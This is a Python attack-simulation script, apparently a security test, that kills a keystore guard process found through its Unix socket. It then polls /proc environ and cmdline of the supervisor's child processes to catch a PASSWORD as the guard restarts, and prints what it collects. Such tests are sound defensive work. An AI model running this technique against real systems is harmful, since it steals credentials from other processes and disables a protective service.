"""Code in a process that trains, after the password of the site's keystore.

``python -m tests.attacks.key_thief SOCKET SUPERVISOR SECONDS``: kills the guard that listens at the
socket, and prints what it can read of the processes that its supervisor starts. It runs as the
site's user, without any capability, and knows only what Linux shows to every process of that user.
"""

from __future__ import annotations

import os
import signal
import socket
import struct
import sys
import time
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path

PROC = Path("/proc")


def capabilities() -> int:
    (line,) = (
        line
        for line in (PROC / "self" / "status").read_text().splitlines()
        if line.startswith("CapEff:")
    )
    return int(line.split()[1], 16)


def listener(path: str) -> int | None:
    """Return the id of the process that listens at a socket; None when no process does."""
    with socket.socket(socket.AF_UNIX) as asked:
        try:
            asked.connect(path)
        except OSError:
            return None
        credentials = asked.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, struct.calcsize("3i"))
        return int(struct.unpack("3i", credentials)[0])


def children(parent: int) -> Iterator[int]:
    """Processes that a process started, as ``ps`` finds them."""
    for entry in PROC.iterdir():
        if entry.name.isdigit():
            with suppress(OSError):
                state = (entry / "stat").read_text()
                if int(state.rpartition(")")[2].split()[1]) == parent:
                    yield int(entry.name)


def shown(process: int) -> bytes:
    """What the kernel shows of a process's start; nothing of one whose memory is private."""
    found = b""
    for name in ("environ", "cmdline"):
        with suppress(OSError):
            found += (PROC / str(process) / name).read_bytes()
    return found


def main(path: str, supervisor: int, seconds: float) -> None:
    guard = listener(path)
    assert guard is not None
    print(f"capabilities {capabilities():x}")
    seen = {shown(guard)}
    deadline = time.monotonic() + seconds
    os.kill(guard, signal.SIGKILL)
    print("killed the guard")
    back = False
    while time.monotonic() < deadline and not back and not any(b"PASSWORD" in one for one in seen):
        back = listener(path) not in (None, guard)
        seen |= {shown(process) for process in children(supervisor) if process != guard}
        # A poll: the restarted guard shows its environment for some milliseconds.
        time.sleep(0.005)
    print("the guard listens again" if back else "gone")
    sys.stdout.flush()
    sys.stdout.buffer.write(b"\n".join(seen).replace(b"\0", b"\n"))


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]))
